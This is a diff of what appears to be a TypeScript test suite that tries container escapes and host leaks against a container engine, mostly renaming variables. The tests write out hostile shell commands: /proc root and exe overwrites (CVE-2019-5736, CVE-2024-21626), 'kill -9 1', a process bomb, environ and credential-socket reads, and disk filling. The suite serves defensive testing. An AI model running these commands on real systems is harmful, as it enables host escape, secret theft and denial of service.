@@ -2,18 +2,18 @@ import { existsSync, lstatSync } from 'node:fs';
 import { join } from 'node:path';
 import { commandLine, descendants } from '../support/processes.js';
 import type { Attack } from './attack.js';
-import { mountsOf } from './scene.js';
+import { mountsOf } from './attack-run.js';
 
-/** What a process in a container tries to reach of the host: files, descriptors, processes, sockets, names. */
+/** Attempts to reach the host from a container: files, descriptors, processes, sockets, names. */
 
 const TRACER = ['--cap-add', 'SYS_PTRACE', '--security-opt', 'seccomp=unconfined'];
 
-/** A race with what is there for a moment only. */
+/** Repeats an attempt, for a race with something that exists only for a moment. */
 async function often(times: number, once: () => Promise<unknown>): Promise<void> {
   for (let round = 0; round < times; round++) await once();
 }
 
-/** From the first moment on: what PID 1 and others hold while the container is made. */
+/** Descriptors that PID 1 and other processes hold during the set-up. */
 function descriptors(flags: string[]): Attack {
   return {
     name: `descriptors of PID 1 while the container starts, by one with ${flags.includes('--privileged') ? '--privileged' : 'SYS_PTRACE'}`,
@@ -21,12 +21,12 @@ function descriptors(flags: string[]): Attack {
     by: 'process',
     reference: 'CVE-2024-21626 (its class)',
     flags,
-    commit: (scene) =>
-      often(10, () => scene.run(['attacker', 'descriptors', scene.ground.victim, '1', '2', 'self'])),
+    commit: (attempt) =>
+      often(10, () => attempt.run(['attacker', 'descriptors', attempt.host.victim, '1', '2', 'self'])),
   };
 }
 
-export const REACH: Attack[] = [
+export const HOST_ACCESS: Attack[] = [
   descriptors(['--cap-add', 'SYS_PTRACE']),
   descriptors(['--privileged']),
   {
@@ -36,8 +36,8 @@ export const REACH: Attack[] = [
     flags: TRACER,
     alsoAsRoot: true,
     weakenedByRoot: ['--userns', 'host', '--privileged', '--pid', 'host'],
-    commit: async (scene) =>
-      void (await often(3, () => scene.run(['attacker', 'trace', scene.ground.victim]))),
+    commit: async (attempt) =>
+      void (await often(3, () => attempt.run(['attacker', 'trace', attempt.host.victim]))),
   },
   {
     name: 'the same, of one who enters by exec',
@@ -45,12 +45,12 @@ export const REACH: Attack[] = [
     by: 'process',
     reference: 'CVE-2016-9962',
     flags: TRACER,
-    commit: async (scene) => {
-      const name = await scene.detach(
-        `sleep 0.5; while true; do attacker trace ${scene.ground.victim}; done`,
+    commit: async (attempt) => {
+      const name = await attempt.detach(
+        `sleep 0.5; while true; do attacker trace ${attempt.host.victim}; done`,
       );
-      await often(6, () => scene.command(['exec', name, 'sleep', '0.05']));
-      scene.reveal((await scene.engine.command(['logs', name])).output);
+      await often(6, () => attempt.command(['exec', name, 'sleep', '0.05']));
+      attempt.reveal((await attempt.engine.command(['logs', name])).output);
     },
   },
   {
@@ -58,9 +58,9 @@ export const REACH: Attack[] = [
     aim: 'host read',
     by: 'process',
     weakenedBy: ['-v', '/tmp:/tmp'],
-    commit: async (scene) => {
-      const path = scene.ground.victim;
-      await scene.shell(`for p in 1 2 self; do cat /proc/$p/root${path} /proc/$p/cwd${path} /proc/$p/cwd/../../..${path}
+    commit: async (attempt) => {
+      const path = attempt.host.victim;
+      await attempt.shell(`for p in 1 2 self; do cat /proc/$p/root${path} /proc/$p/cwd${path} /proc/$p/cwd/../../..${path}
         echo written >> /proc/$p/root${path}; done`);
     },
   },
@@ -70,7 +70,7 @@ export const REACH: Attack[] = [
     by: 'process',
     reference: 'CVE-2019-5736',
     flags: ['--cap-add', 'ALL'],
-    commit: async (scene) => {
+    commit: async (attempt) => {
       const programs = ['/usr/bin/crun', '/usr/bin/podman', '/usr/bin/conmon', process.execPath].filter(
         existsSync,
       );
@@ -80,8 +80,8 @@ export const REACH: Attack[] = [
       const before = look();
       const script =
         'printf "#!/proc/self/exe\\n" > /trap; chmod +x /trap; (while true; do for e in /proc/[0-9]*/exe; do echo x >> $e; done; done) & sleep 1';
-      const name = await scene.detach(script);
-      await often(3, () => scene.command(['exec', name, '/trap']));
+      const name = await attempt.detach(script);
+      await often(3, () => attempt.command(['exec', name, '/trap']));
       return look() !== before;
     },
   },
@@ -90,10 +90,10 @@ export const REACH: Attack[] = [
     aim: 'escape',
     by: 'process',
     reference: 'CVE-2024-21626',
-    commit: async (scene) => {
-      const path = scene.ground.victim;
+    commit: async (attempt) => {
+      const path = attempt.host.victim;
       for (let fd = 3; fd < 12; fd++)
-        await scene.shell(`cat ../../../../../../..${path} .${path}`, {
+        await attempt.shell(`cat ../../../../../../..${path} .${path}`, {
           flags: ['-w', `/proc/self/fd/${fd}`],
         });
     },
@@ -103,11 +103,11 @@ export const REACH: Attack[] = [
     aim: 'escape',
     by: 'process',
     reference: 'CVE-2024-21626',
-    commit: async (scene) => {
-      const name = await scene.detach('sleep 100');
-      const path = scene.ground.victim;
+    commit: async (attempt) => {
+      const name = await attempt.detach('sleep 100');
+      const path = attempt.host.victim;
       for (let fd = 3; fd < 12; fd++)
-        await scene.command([
+        await attempt.command([
           'exec',
           '-w',
           `/proc/self/fd/${fd}`,
@@ -124,10 +124,10 @@ export const REACH: Attack[] = [
     by: 'process',
     flags: ['--cap-add', 'KILL'],
     weakenedBy: ['--pid', 'host'],
-    commit: async (scene) => {
-      // With the host's processes to be seen, only one of them: all would end the tests too.
-      const target = scene.flags.includes('host') ? String(scene.ground.canary.pid) : '-1';
-      const { isTooLate } = await scene.shell(
+    commit: async (attempt) => {
+      // With the host's processes visible, kills only one of them: all would include the tests.
+      const target = attempt.flags.includes('host') ? String(attempt.host.canary.pid) : '-1';
+      const { isTooLate } = await attempt.shell(
         `for s in TERM HUP KILL; do kill -$s -- ${target}; done; kill -9 1; exit 3`,
       );
       return isTooLate;
@@ -138,9 +138,9 @@ export const REACH: Attack[] = [
     aim: 'exhaustion',
     by: 'process',
     flags: ['--stop-timeout', '1'],
-    commit: async (scene) => {
-      await scene.run(['attacker', 'bomb', '300', scene.token], { deadline: 60_000 });
-      return descendants().some(({ pid }) => commandLine(pid).includes(scene.token));
+    commit: async (attempt) => {
+      await attempt.run(['attacker', 'bomb', '300', attempt.token], { deadline: 60_000 });
+      return descendants().some(({ pid }) => commandLine(pid).includes(attempt.token));
     },
   },
   {
@@ -149,34 +149,34 @@ export const REACH: Attack[] = [
     by: 'process',
     reference: 'CVE-2020-15257',
     weakenedBy: ['--network', 'host'],
-    commit: async (scene) =>
-      void (await scene.run(['attacker', 'connect', 'abstract', scene.ground.abstractName])),
+    commit: async (attempt) =>
+      void (await attempt.run(['attacker', 'connect', 'abstract', attempt.host.abstractName])),
   },
   {
     name: "a server on the host's loopback device",
     aim: 'leak',
     by: 'process',
     weakenedBy: ['--network', 'host'],
-    commit: async (scene) =>
-      void (await scene.run(['attacker', 'connect', 'loopback', String(scene.ground.port)])),
+    commit: async (attempt) =>
+      void (await attempt.run(['attacker', 'connect', 'loopback', String(attempt.host.port)])),
   },
   {
     name: 'names of folders of the host: mounts, cgroups, options of the overlay',
     aim: 'leak',
     by: 'process',
-    commit: async (scene) => {
-      const { output } = await scene.shell(
+    commit: async (attempt) => {
+      const { output } = await attempt.shell(
         'cat /proc/self/mountinfo /proc/1/mountinfo /proc/self/cgroup /proc/1/maps',
       );
-      return output.includes(scene.engine.home.folder);
+      return output.includes(attempt.engine.home.folder);
     },
   },
   {
     name: 'the environment and the command line of the engine',
     aim: 'leak',
     by: 'process',
-    commit: async (scene) => {
-      const { output } = await scene.shell(
+    commit: async (attempt) => {
+      const { output } = await attempt.shell(
         'env; cat /proc/*/environ /proc/*/cmdline; cat /proc/[0-9]*/auxv | wc -c',
       );
       return output.includes('the-environment-of-the-host');
@@ -187,8 +187,8 @@ export const REACH: Attack[] = [
     aim: 'leak',
     by: 'process',
     weakenedBy: ['--pid', 'host'],
-    commit: async (scene) => {
-      const { output } = await scene.shell(
+    commit: async (attempt) => {
+      const { output } = await attempt.shell(
         'for p in /proc/[0-9]*; do tr "\\0" " " < $p/cmdline || cat $p/cmdline; done',
       );
       return /node|systemd|sleep\W1000/.test(output);
@@ -199,10 +199,10 @@ export const REACH: Attack[] = [
     aim: 'host write',
     by: 'process',
     weakenedBy: ['-v', '/tmp:/tmp'],
-    commit: async (scene) => {
-      const data = join(scene.engine.home.folder, 'data');
-      const mark = join(scene.engine.home.folder, scene.token);
-      await scene.shell(`ls ${data}; echo x > ${mark}; echo x > /proc/1/cwd/${mark}`);
+    commit: async (attempt) => {
+      const data = join(attempt.engine.home.folder, 'data');
+      const mark = join(attempt.engine.home.folder, attempt.token);
+      await attempt.shell(`ls ${data}; echo x > ${mark}; echo x > /proc/1/cwd/${mark}`);
       return existsSync(mark);
     },
   },
@@ -210,12 +210,12 @@ export const REACH: Attack[] = [
     name: 'the session bus and the agents of the caller, by variables and /run',
     aim: 'leak',
     by: 'process',
-    commit: async (scene) => {
+    commit: async (attempt) => {
       const env = {
         SSH_AUTH_SOCK: '/tmp/agent',
-        DBUS_SESSION_BUS_ADDRESS: `unix:abstract=${scene.ground.abstractName}`,
+        DBUS_SESSION_BUS_ADDRESS: `unix:abstract=${attempt.host.abstractName}`,
       };
-      const { output } = await scene.shell('env; ls /run/user /tmp', { env });
+      const { output } = await attempt.shell('env; ls /run/user /tmp', { env });
       return /SSH_AUTH_SOCK|DBUS|foster-home/.test(output);
     },
   },
@@ -224,16 +224,16 @@ export const REACH: Attack[] = [
     aim: 'leak',
     by: 'process',
     weakenedBy: ['--privileged'],
-    commit: async (scene) => {
+    commit: async (attempt) => {
       let isOpen = false;
       const look = () => {
-        const mounts = mountsOf(scene.processes()[0] ?? 0);
+        const mounts = mountsOf(attempt.processes()[0] ?? 0);
         isOpen = ['/proc/keys', '/proc/timer_list'].some(
           (place) => existsSync(place) && !isMasked(mounts, place),
         );
-        for (const pid of scene.processes()) process.kill(pid, 'SIGKILL');
+        for (const pid of attempt.processes()) process.kill(pid, 'SIGKILL');
       };
-      await scene.shell('echo holding; while true; do sleep 1; done', { when: { says: 'holding', look } });
+      await attempt.shell('echo holding; while true; do sleep 1; done', { when: { says: 'holding', look } });
       return isOpen;
     },
   },
@@ -241,8 +241,8 @@ export const REACH: Attack[] = [
     name: 'the file system of the image fills up with a hole that is as large as can be',
     aim: 'exhaustion',
     by: 'process',
-    commit: async (scene) => {
-      const { isTooLate } = await scene.shell(
+    commit: async (attempt) => {
+      const { isTooLate } = await attempt.shell(
         'truncate -s 8E /big || dd if=/dev/zero of=/big bs=1 count=1 seek=8E; true',
       );
       return isTooLate;
@@ -250,7 +250,7 @@ export const REACH: Attack[] = [
   },
 ];
 
-/** The device null of the host, not what lies in the container under its name. */
+/** Whether it is the host's null device, not a file of that name in the container. */
 export function isMasked(mounts: ReturnType<typeof mountsOf>, place: string): boolean {
   const last = mounts.findLast((mount) => mount.place === place);
   return last !== undefined && (last.root === '/null' || last.type === 'tmpfs') && last.type !== 'proc';
